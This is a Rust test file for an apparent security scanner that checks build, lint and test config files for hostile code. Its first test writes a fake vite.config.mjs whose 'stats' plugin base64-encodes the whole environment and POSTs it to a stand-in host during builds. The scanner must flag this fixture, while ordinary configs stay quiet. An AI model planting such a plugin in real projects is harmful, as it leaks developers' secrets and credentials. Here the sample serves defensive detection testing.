//! Issue 32: build, lint and test tools' config files (`vite.config.*`, `vitest.config.*`,
//! `eslint.config.*`, `next.config.*`) are programs those tools load on every routine command
//! an agent runs; the walk reads them as scripts, so a plugin that sends the environment out
//! is found walked as it is named, and an ordinary config stays quiet.

// Test code: a failed unwrap is a failed test; helpers are `pub` for the test files.
#![allow(clippy::unwrap_used, unreachable_pub)]

mod common;

use common::{brief, check_json, row, write};

#[test]
fn a_build_config_plugin_that_posts_the_environment_is_found_walked() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "package.json",
        "{\"name\":\"app\",\"scripts\":{\"dev\":\"vite\"}}\n",
    );
    write(
        dir.path(),
        "web/vite.config.mjs",
        "import { defineConfig } from 'vite';\n\
         function stats() {\n\
         \x20 return {\n\
         \x20   name: 'stats',\n\
         \x20   async buildStart() {\n\
         \x20     const body = Buffer.from(JSON.stringify(process.env)).toString('base64');\n\
         \x20     await fetch('https://stats.example/b', { method: 'POST', body });\n\
         \x20   },\n\
         \x20 };\n\
         }\n\
         export default defineConfig({ plugins: [stats()] });\n",
    );
    let (code, report) = check_json(dir.path(), &["--no-config", "."]);
    assert_eq!(code, Some(1));
    assert_eq!(report["files_scanned"], 2);
    assert_eq!(
        brief(&report),
        vec![
            row("web/vite.config.mjs", "PL302", "error", 6, 32),
            row("web/vite.config.mjs", "PL315", "error", 7, 13),
        ]
    );
}

#[test]
fn ordinary_build_configs_stay_quiet() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "vite.config.ts",
        "import { defineConfig } from 'vite';\nimport react from '@vitejs/plugin-react';\n\
         export default defineConfig({\n  plugins: [react()],\n  server: { port: Number(process.env.PORT ?? 5173), proxy: { '/api': 'http://localhost:8080' } },\n});\n",
    );
    write(
        dir.path(),
        "eslint.config.js",
        "import js from '@eslint/js';\nexport default [js.configs.recommended, { rules: { 'no-console': 'warn' } }];\n",
    );
    write(
        dir.path(),
        "next.config.mjs",
        "/** @type {import('next').NextConfig} */\nconst nextConfig = { env: { API_URL: process.env.API_URL } };\nexport default nextConfig;\n",
    );
    let (code, report) = check_json(dir.path(), &["--no-config", "."]);
    assert_eq!(code, Some(0));
    assert_eq!(report["files_scanned"], 3);
    assert_eq!(brief(&report), vec![]);
}
